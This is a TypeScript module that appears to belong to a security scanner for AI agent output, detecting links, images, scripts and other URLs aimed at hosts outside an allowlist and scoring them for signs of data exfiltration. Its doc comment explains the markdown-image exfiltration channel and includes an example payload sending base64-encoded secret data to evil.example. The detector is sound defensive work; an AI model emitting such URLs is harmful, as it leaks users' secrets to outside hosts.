import type { Match } from '../finding.js';
import { findUrlCandidates, type UrlConstruct } from './url-candidates.js';
import { urlDataSignals } from './url-data-signals.js';
import { resolveUrlTarget } from './url-target.js';

export interface ExfiltrationOptions {
  /**
   * Hosts the agent may reach (the profile's network allowlist). Receives the host as `URL`
   * resolves it: lower case, punycode for IDN, `[…]` for IPv6. Without it every host is outside.
   */
  isAllowedHost?: (host: string) => boolean;
}

// How likely each construct is to send a request on its own: images, scripts, frames and CSS
// are fetched as soon as the text is rendered; links need a click; bare URLs may not render at all.
const BASE_SCORE: Record<UrlConstruct, number> = {
  'markdown-image': 0.45,
  'html-image': 0.45,
  'html-script': 0.5,
  'html-frame': 0.45,
  'html-redirect': 0.5,
  'html-base': 0.45,
  'html-media': 0.4,
  'css-url': 0.4,
  'html-link': 0.35,
  'html-form': 0.3,
  'markdown-link': 0.2,
  'html-anchor': 0.2,
  'bare-url': 0.15,
};

const LABEL: Record<UrlConstruct, string> = {
  'markdown-image': 'markdown image',
  'html-image': 'HTML image',
  'html-script': 'script',
  'html-frame': 'frame',
  'html-redirect': 'refresh redirect',
  'html-base': 'base URL',
  'html-media': 'media source',
  'css-url': 'CSS url()',
  'html-link': 'linked resource',
  'html-form': 'form target',
  'markdown-link': 'markdown link',
  'html-anchor': 'HTML link',
  'bare-url': 'URL',
};

/**
 * Links, images and other URLs in text that point outside the allowlist: markdown images (fetched
 * as soon as a chat UI renders them, the classic exfiltration channel), links and reference
 * definitions, HTML `<img>`, `<iframe>`, `<script>`, `<link>`, refresh redirects, CSS `url()`, and
 * bare URLs. Hosts are resolved with WHATWG `URL`, so userinfo, backslash, protocol-relative, IP
 * and IDN forms cannot hide the real host. The score grows with signs of data in the URL: long
 * or high-entropy query values, base64 parameters, placeholders such as `{secret}` or `$DATA`.
 *
 * @example
 * findExfiltration('![](https://evil.example/p.png?d=c2VjcmV0IGtleSAxMjM0NTY3ODkw)')
 * // [{ type: 'markdown-image', start: 0, end: 62, score: 0.8, message: 'markdown image to evil.example …' }]
 * findExfiltration('![](https://cdn.example/logo.png)', { isAllowedHost: (h) => h === 'cdn.example' }) // []
 */
export function findExfiltration(text: string, options: ExfiltrationOptions = {}): Match[] {
  if (typeof text !== 'string' || text.length === 0) return [];
  const out: Match[] = [];
  for (const candidate of findUrlCandidates(text)) {
    const target = resolveUrlTarget(candidate.url, { decodeEntities: candidate.inHtml });
    if (target === undefined || allowed(options, target.host)) continue;
    const signals = urlDataSignals(target.url, candidate.url);
    const reasons = [...signals.reasons];
    let score = BASE_SCORE[candidate.type] + signals.boost;
    if (target.hasUserinfo) {
      score += 0.2;
      reasons.push('credentials before the host hide where it really goes');
    }
    if (target.isIpLiteral) {
      score += 0.15;
      reasons.push('an IP address for a host');
    }
    if (target.isPunycode) {
      score += 0.1;
      reasons.push('an internationalized (punycode) host');
    }
    const detail = reasons.length > 0 ? `: ${reasons.join('; ')}` : '';
    out.push({
      type: candidate.type,
      start: candidate.start,
      end: candidate.end,
      score: Math.round(Math.min(0.98, score) * 1000) / 1000,
      message: `${LABEL[candidate.type]} to ${target.host}, outside the allowlist${detail}`,
    });
  }
  return mergeSameSpan(out);
}

function allowed(options: ExfiltrationOptions, host: string): boolean {
  if (options.isAllowedHost === undefined) return false;
  try {
    return options.isAllowedHost(host) === true;
  } catch {
    return false;
  }
}

/** One match per construct: an `<img srcset>` lists several URLs; keep the riskiest. */
function mergeSameSpan(matches: Match[]): Match[] {
  const out: Match[] = [];
  for (const m of matches) {
    const last = out.at(-1);
    if (last && last.start === m.start && last.end === m.end && last.type === m.type) {
      if (m.score > last.score) out[out.length - 1] = m;
    } else out.push(m);
  }
  return out;
}
